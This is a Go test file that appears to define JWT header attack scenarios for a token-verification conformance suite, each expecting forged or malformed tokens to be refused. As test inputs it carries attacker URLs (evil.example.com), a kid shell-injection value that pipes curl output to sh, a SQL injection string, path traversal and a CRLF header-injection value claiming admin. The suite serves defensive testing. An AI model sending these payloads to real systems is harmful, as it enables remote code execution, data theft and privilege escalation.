package scenario

import (
	"crypto/rand"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/base64"
	"math/big"
	"strings"
	"time"
)

// attackerDraft is a valid-looking token for the resource signed by the
// other issuer's rsa-1 key (the attacker's), claiming the trusted issuer.
func (e *Env) attackerDraft() *draft {
	d := e.draft("rsa-1")
	d.key = e.Other.keys["rsa-1"].private
	return d
}

// selfSignedCert is a certificate for the attacker's key, for x5c.
func (e *Env) selfSignedCert() string {
	key := e.Other.keys["rsa-1"].private
	tmpl := &x509.Certificate{
		SerialNumber: big.NewInt(1),
		Subject:      pkix.Name{CommonName: IssuerURL},
		NotBefore:    e.D.Now().Add(-time.Hour),
		NotAfter:     e.D.Now().Add(time.Hour),
	}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, key.Public(), key)
	if err != nil {
		panic("scenario: " + err.Error())
	}
	return base64.StdEncoding.EncodeToString(der) // x5c uses standard base64 (RFC 7515 §4.1.6)
}

// unknownKid sends a token naming kid, which the key set lacks: one early
// refresh to the configured JWKS location (never elsewhere) brings the same
// keys, and the token is refused.
func (e *Env) unknownKid(kid any) Stream {
	started(e, BaseConfig)
	s := e.sendToken(e.headerWith("rsa-1", "kid", kid))
	return e.afterRefresh(s, e.Issuer.JWKS("rsa-1", "ec-1", "ed-1"))
}

func headerAttacks() []Attack {
	const class = ClassHeader
	forged := wantInvalidToken(descSignature)
	noKey := wantInvalidToken(descNoKey)
	malformed := wantInvalidToken(descMalformed)
	critical := wantInvalidToken(descCritical)
	badType := wantInvalidToken(descType)
	rows := []Attack{
		{class, "jku pointing at the attacker's JWK Set", "RFC 8725 §3.10; RFC 7515 §4.1.2", forged, func(e *Env) Stream {
			started(e, BaseConfig)
			return e.refusedWithoutFetch(e.attackerDraft().with("h", "jku", "https://evil.example.com/jwks.json").signed())
		}},
		{class, "jku with an unknown kid: the refresh goes to the configured JWKS only", "RFC 8725 §3.10", noKey, func(e *Env) Stream {
			started(e, BaseConfig)
			s := e.sendToken(e.attackerDraft().with("h", "jku", "https://evil.example.com/jwks.json", "kid", "evil-1").signed())
			return e.afterRefresh(s, e.Issuer.JWKS("rsa-1", "ec-1", "ed-1"))
		}},
		{class, "jwk header embedding the attacker's public key", "RFC 8725 §3.10; CVE-2018-0114", forged, func(e *Env) Stream {
			started(e, BaseConfig)
			embedded := jwk("rsa-1", e.Other.keys["rsa-1"].private.Public(), "use", nil)
			return e.refusedWithoutFetch(e.attackerDraft().with("h", "jwk", embedded).signed())
		}},
		{class, "jwk header embedding the attacker's key, no kid", "RFC 8725 §3.10; CVE-2018-0114", forged, func(e *Env) Stream {
			started(e, BaseConfig)
			embedded := jwk("evil", e.Other.keys["rsa-1"].private.Public(), "use", nil)
			return e.refusedWithoutFetch(e.attackerDraft().with("h", "jwk", embedded, "kid", nil).signed())
		}},
		{class, "x5u pointing at the attacker's certificate", "RFC 8725 §3.10; RFC 7515 §4.1.5", forged, func(e *Env) Stream {
			started(e, BaseConfig)
			return e.refusedWithoutFetch(e.attackerDraft().with("h", "x5u", "https://evil.example.com/cert.pem").signed())
		}},
		{class, "x5c carrying the attacker's self-signed certificate", "RFC 8725 §3.10; RFC 7515 §4.1.6", forged, func(e *Env) Stream {
			started(e, BaseConfig)
			return e.refusedWithoutFetch(e.attackerDraft().with("h", "x5c", []string{e.selfSignedCert()}).signed())
		}},
		{class, "kid path traversal", "RFC 7515 §4.1.4; RFC 8725 §3.10", noKey, func(e *Env) Stream {
			return e.unknownKid("../../../../../../dev/null")
		}},
		{class, "kid SQL injection", "RFC 8725 §3.10", noKey, func(e *Env) Stream {
			return e.unknownKid("x' UNION SELECT 'secret' --")
		}},
		{class, "kid shell injection", "RFC 8725 §3.10", noKey, func(e *Env) Stream {
			return e.unknownKid("$(curl evil.example.com)|sh")
		}},
		{class, "kid with a NUL after a real kid", "RFC 8725 §3.10", noKey, func(e *Env) Stream {
			return e.unknownKid("rsa-1\x00")
		}},
		{class, "kid with CR/LF (log and header injection)", "RFC 8725 §3.10; RFC 9110 §5.5", noKey, func(e *Env) Stream {
			return e.unknownKid("rsa-1\r\nx-mcp-subject: admin")
		}},
		{class, "kid differing from a real kid in case only", "RFC 7515 §4.1.4 (kid is case-sensitive)", noKey, func(e *Env) Stream {
			return e.unknownKid("RSA-1")
		}},
		{class, "kid of 4000 octets", "RFC 7515 §4.1.4", noKey, func(e *Env) Stream {
			return e.unknownKid(strings.Repeat("k", 4000))
		}},
		{class, "kid omitted while two keys fit the algorithm", "RFC 7515 §4.1.4; RFC 8725 §3.10", wantInvalidToken(descNoUniqueKey), func(e *Env) Stream {
			startedWith(e, BaseConfig, e.Issuer.JWKS("rsa-1", "rsa-2", "ec-1"))
			return e.refusedWithoutFetch(e.headerWith("rsa-1", "kid", nil))
		}},
	}
	for _, kid := range []struct {
		name  string
		value any
	}{
		{"a number", 1}, {"null", rawJSON("null")}, {"an array", []string{"rsa-1"}}, {"an object", map[string]string{"kid": "rsa-1"}},
		{"a boolean", true}, {"empty", ""},
	} {
		rows = append(rows, Attack{class, "kid " + kid.name, "RFC 7515 §4.1.4 (kid is a string)", malformed, func(e *Env) Stream {
			started(e, BaseConfig)
			return e.refusedWithoutFetch(e.headerWith("rsa-1", "kid", kid.value))
		}})
	}
	for _, crit := range []struct {
		name   string
		header []any
	}{
		{`crit ["exp"] (an extension we do not implement)`, []any{"crit", []string{"exp"}, "exp", 1}},
		{`crit ["b64"] with b64 false (unencoded payload)`, []any{"crit", []string{"b64"}, "b64", false}},
		{"crit empty (malformed)", []any{"crit", []string{}}},
		{"crit a string instead of an array", []any{"crit", "b64"}},
		{`crit ["alg"] (a registered parameter)`, []any{"crit", []string{"alg"}}},
	} {
		rows = append(rows, Attack{class, crit.name, "RFC 7515 §4.1.11; RFC 7797 §6", critical, func(e *Env) Stream {
			started(e, BaseConfig)
			return e.refusedWithoutFetch(e.headerWith("rsa-1", crit.header...))
		}})
	}
	for _, cty := range []string{"JWT", "at+jwt", "application/json"} {
		rows = append(rows, Attack{class, `cty "` + cty + `" (nested token)`, "RFC 7519 §5.2; RFC 8725 §2.8", malformed, func(e *Env) Stream {
			started(e, BaseConfig)
			return e.refusedWithoutFetch(e.headerWith("rsa-1", "cty", cty))
		}})
	}
	for _, typ := range []struct {
		name  string
		value any
	}{
		{`"dpop+jwt" (a DPoP proof)`, "dpop+jwt"}, {`"secevent+jwt" (a security event)`, "secevent+jwt"},
		{`"logout+jwt" (a logout token)`, "logout+jwt"}, {`"JOSE"`, "JOSE"}, {`"application/jwt"`, "application/jwt"},
		{"empty", ""}, {"a number", 1},
	} {
		rows = append(rows, Attack{class, "typ " + typ.name, "RFC 8725 §3.11; RFC 9068 §2.1", badType, func(e *Env) Stream {
			started(e, BaseConfig)
			return e.refusedWithoutFetch(e.headerWith("rsa-1", "typ", typ.value))
		}})
	}
	atJWT := providerOption(`"require_access_token_type": true`)
	for _, typ := range []struct {
		name  string
		value any
	}{{`"JWT"`, "JWT"}, {`"jwt"`, "jwt"}, {"absent", nil}} {
		rows = append(rows, Attack{class, "typ " + typ.name + " when at+jwt is required", "RFC 9068 §2.1, §4", badType, func(e *Env) Stream {
			started(e, atJWT)
			return e.refusedWithoutFetch(e.headerWith("ec-1", "typ", typ.value))
		}})
	}
	return rows
}
